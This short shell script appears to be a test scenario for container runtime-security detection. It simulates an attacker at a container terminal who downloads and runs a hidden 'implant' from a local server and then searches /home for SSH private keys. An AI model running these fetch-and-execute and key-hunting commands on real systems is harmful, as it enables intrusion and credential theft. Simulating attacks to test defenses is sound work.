#!/bin/sh
# malicious: an attacker at the runtime tty greps for keys after fetching a tool
# container
. "$(dirname "$0")/../../lib.sh"
ctr_tty <<'CMDS'
curl -s -o /tmp/.t http://127.0.0.1:8080/implant; chmod +x /tmp/.t; /tmp/.t
grep -rl "BEGIN OPENSSH PRIVATE" /home 2>/dev/null
exit
CMDS
